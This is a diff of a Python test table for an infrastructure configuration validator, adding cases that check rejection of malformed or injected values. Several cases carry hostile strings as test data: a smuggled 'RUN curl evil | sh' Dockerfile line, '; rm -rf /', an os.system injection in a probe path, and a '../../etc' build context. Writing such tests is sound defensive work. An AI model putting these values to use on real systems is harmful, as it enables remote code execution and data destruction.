@@ -63,13 +63,13 @@ WEB_SERVICE_CASES = [
      'db = WebService(prod, "db", image="nginx:1.27.3", port=5432)\n' + WS + 'image="nginx:1.27.3", port=80, '
      "connects_to=[db])", "shop/dev/api", "connects_to"),
     ("health-path-without-slash", WS + 'image="nginx:1.27.3", port=80, health=Health.http("healthz"))',
-     "shop/dev/api", "health"),
+     "shop/dev/api", "health.path"),
     ("health-timeout-not-below-period",
      WS + 'image="nginx:1.27.3", port=80, health=Health.tcp(timeout_seconds=10, period_seconds=5))', "shop/dev/api",
      "health.timeout_seconds"),
     ("zero-replicas", WS + 'image="nginx:1.27.3", port=80, replicas=0)', "shop/dev/api", "replicas"),
     ("relative-writable-path", WS + 'image="nginx:1.27.3", port=80, writable_paths=["tmp"])', "shop/dev/api",
-     "writable_paths"),
+     "writable_paths[0]"),
     ("dockerfile-differs-between-environments",
      'WebService(dev, "api", build=Build.python("py", ["a"]), port=80)\n'
      'WebService(prod, "api", build=Build.python("py", ["b"]), port=80)', "shop/prod/api", "build"),
@@ -258,3 +258,59 @@ API_SERVER_CASES = [
      "shop/dev/team", "quota.persistent_volume_claims"),
 ]
 ALL_CASES += API_SERVER_CASES
+
+# Strings that reach a Dockerfile, a probe program or a shell stay data; values that would collide refuse.
+INJECTION_AND_COLLISION_CASES = [
+    ("go-package-adds-an-instruction", WS + 'build=Build.go("go", package="./cmd\\nRUN curl evil | sh"), port=80)',
+     "shop/dev/api", "build.package"),
+    ("go-package-with-a-space", WS + 'build=Build.go("go", package="./cmd; rm -rf /"), port=80)', "shop/dev/api",
+     "build.package"),
+    ("build-command-with-a-newline", WS + 'build=Build.node("node", ["node", "s.js"], build_command=["npm", '
+     '"run", "build\\nRUN curl evil"]), port=80)', "shop/dev/api", "build.build_command"),
+    ("build-command-as-a-string", WS + 'build=Build.node("node", ["node", "s.js"], build_command="npm run build"), '
+     'port=80)', "shop/dev/api", "build.build_command"),
+    ("build-command-string-is-not-chars", WS + 'build=Build.python("py", "gunicorn app:app"), port=80)',
+     "shop/dev/api", "build.command"),
+    ("probe-path-with-a-quote", WS + 'build=Build.python("py", ["x"]), port=80, health=Health.http(\'/h"); '
+     'import os; os.system("x\'))', "shop/dev/api", "health.path"),
+    ("probe-path-with-a-space", WS + 'image="nginx:1.27.3", port=80, health=Health.http("/health check"))',
+     "shop/dev/api", "health.path"),
+    ("health-kind-unknown", WS + 'image="nginx:1.27.3", port=80, health=Health("grpc"))', "shop/dev/api",
+     "health.kind"),
+    ("health-timing-a-string", WS + 'image="nginx:1.27.3", port=80, health=Health.http("/", period_seconds="10"))',
+     "shop/dev/api", "health.period_seconds"),
+    ("build-context-outside-the-app", WS + 'build=Build.python("../../etc", ["x"]), port=80)', "shop/dev/api",
+     "build.context"),
+    ("writable-paths-same-volume", WS + 'image="nginx:1.27.3", port=80, writable_paths=["/var/cache", '
+     '"/var_cache"])', "shop/dev/api", "writable_paths[1]"),
+    ("writable-paths-twice", WS + 'image="nginx:1.27.3", port=80, writable_paths=["/tmp", "/tmp/"])',
+     "shop/dev/api", "writable_paths[1]"),
+    ("writable-path-volume-name-too-long", WS + 'image="nginx:1.27.3", port=80, writable_paths=["/' + "x" * 70
+     + '"])', "shop/dev/api", "writable_paths[0]"),
+    ("resources-cpu-a-float", WS + 'image="nginx:1.27.3", port=80, resources=Resources(cpu=0.5))', "shop/dev/api",
+     "resources.cpu"),
+    ("resources-a-dict", WS + 'image="nginx:1.27.3", port=80, resources={"cpu": "1"})', "shop/dev/api",
+     "resources"),
+    ("secret-ref-key-a-number", WS + 'image="nginx:1.27.3", port=80, secrets={"TOKEN": SecretRef("s", 1)})',
+     "shop/dev/api", "secrets.TOKEN.key"),
+    ("quota-pods-a-string", 'SecureNamespace(dev, "team", quota=Quota(pods="50"))', "shop/dev/team", "quota.pods"),
+    ("migration-command-a-string", WS + 'image="nginx:1.27.3", port=80, migrate=Migration("python -m migrate"))',
+     "shop/dev/api", "migrate.command"),
+    ("backup-retention-a-string", PG + 'backup=Backup(schedule="@daily", retention="7"))', "shop/dev/db",
+     "backup.retention"),
+    ("port-list", WS + 'image="nginx:1.27.3", port=[3000, 9090])', "shop/dev/api", "port"),
+    ("public-a-string", WS + 'image="nginx:1.27.3", port=80, public="false")', "shop/dev/api", "public"),
+    ("health-a-string", WS + 'image="nginx:1.27.3", port=80, health="/healthz")', "shop/dev/api", "health"),
+    ("secrets-a-list", WS + 'image="nginx:1.27.3", port=80, secrets=[SecretRef("s", "k")])', "shop/dev/api",
+     "secrets"),
+    ("connects-to-not-a-list", 'db = StatefulDB(dev, "db", engine="redis", version="7.4")\n' + WS
+     + 'image="nginx:1.27.3", port=80, connects_to=db)', "shop/dev/api", "connects_to"),
+    ("connects-to-none", WS + 'image="nginx:1.27.3", port=80, connects_to=None)', "shop/dev/api", "connects_to"),
+    ("pod-security-version-a-float", 'SecureNamespace(dev, "team", pod_security_version=1.33)', "shop/dev/team",
+     "pod_security_version"),
+    ("cron-day-of-week-7", CJ + 'schedule="0 0 * * 7")', "shop/dev/report", "schedule"),
+    ("cron-last-day", CJ + 'schedule="0 0 L * *")', "shop/dev/report", "schedule"),
+    ("cron-nth-weekday", CJ + 'schedule="0 0 * * 1#2")', "shop/dev/report", "schedule"),
+    ("cron-reversed-range", CJ + 'schedule="30-10 * * * *")', "shop/dev/report", "schedule"),
+]
+ALL_CASES += INJECTION_AND_COLLISION_CASES
